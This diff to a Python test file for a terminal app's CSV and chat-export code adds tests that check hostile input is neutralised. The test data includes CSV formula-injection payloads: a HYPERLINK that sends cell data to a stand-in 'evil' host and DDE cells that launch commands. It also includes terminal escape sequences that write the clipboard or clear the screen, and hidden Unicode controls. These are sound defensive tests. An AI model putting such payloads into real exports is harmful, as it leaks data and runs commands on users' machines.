@@ -76,8 +76,60 @@ def test_ordinary_text_is_kept_exactly() -> None:
 
 def test_markup_text_stays_literal_in_the_sinks() -> None:
     """A remote name with markup and an action renders as the same characters, styled nothing."""
-    from naetra_tui.ui.text import safe
+    from naetra_tui.ui.formatting import safe
 
     rendered = safe("[@click=app.quit]Quit[/] [bold]x[/bold]")
     assert rendered.plain == "[@click=app.quit]Quit[/] [bold]x[/bold]"
     assert not rendered.spans
+
+
+# --- sinks: CSV cells and exported Markdown stay inert (#31) ------------------------------------
+
+
+@pytest.mark.parametrize(
+    "cell",
+    [
+        '=HYPERLINK("http://evil/?"&A1,"click")',
+        "@SUM(A1:A9)",
+        "+cmd|' /C calc'!A0",
+        "-2+3+cmd|'x'!A0",
+        "\t=1",
+        "\r=1",
+    ],
+)
+def test_a_csv_cell_that_would_start_a_formula_is_written_as_text(
+    cell: str, capsys: pytest.CaptureFixture[str]
+) -> None:
+    import csv
+    import io
+
+    from naetra_tui.cli.output import write_csv
+
+    write_csv([["symbol", "source", "value"], ["AAPL", cell, -12.5], ["MSFT", "-12.5", 3]])
+    rows = list(csv.reader(io.StringIO(capsys.readouterr().out)))
+    assert rows[1][1].startswith("'") and rows[1][1].lstrip("'").lstrip("\t\r") != ""
+    assert rows[1][2] == "-12.5" and rows[2][1] == "-12.5"  # numbers, negative ones too, untouched
+
+
+def test_csv_cells_carry_no_escape_sequences(capsys: pytest.CaptureFixture[str]) -> None:
+    from naetra_tui.cli.output import write_csv
+
+    write_csv([["\x1b]52;c;ZXZpbA==\x07AAPL", "\x1b[31mred\u202e"]])
+    written = capsys.readouterr().out
+    assert "\x1b" not in written and "\u202e" not in written and "AAPL" in written
+
+
+def test_an_exported_chat_holds_no_bytes_that_act_on_a_terminal() -> None:
+    from datetime import UTC, datetime
+
+    from naetra_tui.core.models import ChatMessage
+    from naetra_tui.services.chat.export import conversation_markdown
+
+    hostile = "price \x1b]52;c;ZXZpbA==\x07is \x1b[2J\u202e21.5\u200b and \x1b]0;title\x07done"
+    messages = [
+        ChatMessage(role="user", content="how is \x1b[31mAAPL?", created_at=datetime(2026, 1, 1, tzinfo=UTC)),
+        ChatMessage(role="assistant", content=hostile, created_at=datetime(2026, 1, 1, tzinfo=UTC)),
+    ]
+    text = conversation_markdown("AAPL", messages, "general")
+    assert not any(ch in text for ch in ("\x1b", "\x07", "\u202e", "\u200b"))
+    assert "price" in text and "21.5" in text and "done" in text and "\n## You\n" in text
